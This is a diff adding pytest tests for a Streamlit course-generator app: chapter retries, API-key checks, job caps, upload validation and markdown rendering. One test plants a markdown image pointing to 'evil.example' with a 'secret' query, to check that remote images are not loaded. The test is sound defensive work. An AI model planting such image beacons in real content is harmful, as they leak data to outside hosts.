@@ -249,6 +249,9 @@ def test_a_failed_chapter_shows_its_reason_and_retry_writes_it(gemini_page, gemi
     button(gemini_page, "Generate course").click().run()
     assert badge(wait_until_finished(gemini_page)) == "Failed"
     assert re.search(r"^1\. .+ failed: .*500", texts(gemini_page.error), re.MULTILINE)
+    for message in (e.value for e in gemini_page.error):
+        phrases = [p.strip(" .") for p in re.split(r"[;:(),]", message) if p.strip(" .")]
+        assert len(phrases) == len(set(phrases)), f"a phrase is doubled in {message!r}"
     button(gemini_page, "Retry failed chapters").click().run()
     assert badge(wait_until_finished(gemini_page)) == "Finished"
     assert set(gemini_page.dataframe[-1].value["Status"]) == {"done"}
@@ -332,3 +335,115 @@ def test_an_unfinished_saved_course_resumes_from_the_shared_workspace(page, tmp_
     data = json.loads((tmp_path / "Halfway" / "course.json").read_text())
     assert data["state"] == "done" and data["engine"] == "offline"
     assert all(c["status"] == "done" for c in data["chapters"])
+
+
+def fail_first_chapter(at: AppTest, fake) -> str:
+    """Generate "Volcanoes" through the fake Gemini with chapter 1 failing; the course token."""
+    one_at_a_time_without_retries(at)
+    button(at, "Plan outline").click().run()
+    fake.fail_next(1, 500)
+    button(at, "Generate course").click().run()
+    assert badge(wait_until_finished(at)) == "Failed"
+    return at.query_params["course"]
+
+
+def test_a_gemini_course_is_not_continued_without_a_key(gemini_page, gemini_env, monkeypatch,
+                                                         tmp_path):
+    token = fail_first_chapter(gemini_page, gemini_env)
+    before = (tmp_path / "Volcanoes" / "course.json").read_text(encoding="utf-8")
+    monkeypatch.delenv("GEMINI_API_KEY")  # after a reload a typed key is gone too
+    later = opened({"course": token})
+    button(later, "Retry failed chapters").click().run()
+    assert "add a Gemini API key in the sidebar" in texts(later.error)
+    assert "job" not in later.query_params
+    assert (tmp_path / "Volcanoes" / "course.json").read_text(encoding="utf-8") == before
+
+
+def test_retry_keeps_the_recorded_engine_and_model_whatever_the_sidebar_says(
+        gemini_page, gemini_env, tmp_path):
+    fail_first_chapter(gemini_page, gemini_env)
+    model = json.loads((tmp_path / "Volcanoes" / "course.json").read_text())["model"]
+    gemini_page.sidebar.radio[0].set_value("offline").run()
+    button(gemini_page, "Retry failed chapters").click().run()
+    assert badge(wait_until_finished(gemini_page)) == "Finished"
+    data = json.loads((tmp_path / "Volcanoes" / "course.json").read_text())
+    assert (data["engine"], data["model"], data["extractive"]) == ("gemini", model, False)
+
+
+def test_finish_course_writes_only_the_missing_summary(page, tmp_path):
+    token = make_course(page, "Volcanoes")
+    folder = tmp_path / "Volcanoes"
+    data = json.loads((folder / "course.json").read_text())
+    attempts = [c["attempts"] for c in data["chapters"]]
+    data.update(summary_file=None, state="cancelled")
+    (folder / "course.json").write_text(json.dumps(data))
+    (folder / "summary.md").unlink()
+    later = opened({"course": token})
+    button(later, "Finish course").click().run()
+    assert badge(wait_until_finished(later)) == "Finished"
+    after = json.loads((folder / "course.json").read_text())
+    assert after["summary_file"] == "summary.md" and (folder / "summary.md").exists()
+    assert [c["attempts"] for c in after["chapters"]] == attempts
+
+
+def test_a_course_beyond_the_session_cap_is_refused_in_words(gemini_env, monkeypatch, tmp_path):
+    monkeypatch.setenv("GEMINITEACHER_OUTPUT_DIR", str(tmp_path))
+    monkeypatch.setenv("GEMINITEACHER_SESSION_JOBS", "1")
+    st.cache_resource.clear()  # a registry that reads the cap of 1
+    gemini_env.latency = 0.3
+    try:
+        at = AppTest.from_file(APP, default_timeout=30).run()
+        at.text_area(key="pasted").input(NOTES).run()
+        button(at, "Generate course").click().run()
+        at.text_input(key="title").input("Another").run()
+        button(at, "Generate course").click().run()
+        assert "you already have 1 course(s) queued or being written" in texts(at.error)
+        assert not (tmp_path / "Another").exists()
+        wait_until_finished(at)
+    finally:
+        st.cache_resource.clear()
+
+
+def test_the_title_never_comes_from_a_rejected_file(page):
+    picture = ("picture.pdf", b"an image, not a pdf", "application/pdf")
+    page.file_uploader[0].set_value([picture]).run()
+    assert page.text_input(key="title").value == ""
+    page.file_uploader[0].set_value([picture, ("volcanoes.md", NOTES.encode(), "text/markdown")])
+    page.run()
+    assert page.text_input(key="title").value == "volcanoes"
+
+
+def test_the_temperature_shows_only_when_gemini_writes(page):
+    assert not [s for s in page.sidebar.slider if s.label == "Temperature"]
+    page.sidebar.radio[0].set_value("gemini").run()
+    assert [s for s in page.sidebar.slider if s.label == "Temperature"]
+
+
+def test_a_resumed_course_is_listed_once_and_its_time_counts_every_run(gemini_page, gemini_env,
+                                                                       tmp_path):
+    from geminiteacher.ui.common import registry
+
+    gemini_env.latency = 0.5
+    one_at_a_time_without_retries(gemini_page)
+    button(gemini_page, "Generate course").click().run()
+    button(gemini_page, "Cancel").click().run()
+    wait_until_finished(gemini_page)
+    next(b for b in gemini_page.button if b.label.startswith("Resume")).click().run()
+    assert badge(wait_until_finished(gemini_page)) == "Finished"
+    listed = [m.value for m in gemini_page.markdown if m.value.startswith("Volcanoes · ")]
+    assert listed == ["Volcanoes · done"]
+    runs = registry().runs_of(tmp_path / "Volcanoes")
+    assert len(runs) == 2
+    elapsed = next(m for m in gemini_page.metric if m.label == "Elapsed").value
+    assert elapsed == f"{sum(j.ended - j.started for j in runs):.0f} s"
+
+
+def test_chapter_text_loads_no_remote_image_and_sits_below_the_chapter_title(page, tmp_path):
+    make_course(page, "Volcanoes")
+    chapter = next((tmp_path / "Volcanoes").glob("chapter_01_*.md"))
+    chapter.write_text(chapter.read_text() + "\n![](https://evil.example/?q=secret)\n")
+    page.run()
+    rendered = texts(page.markdown)
+    assert "[Image: image](https://evil.example/?q=secret)" in rendered
+    assert "![" not in rendered
+    assert "#### Summary" in rendered and not re.search(r"^#{1,2} ", rendered, re.MULTILINE)
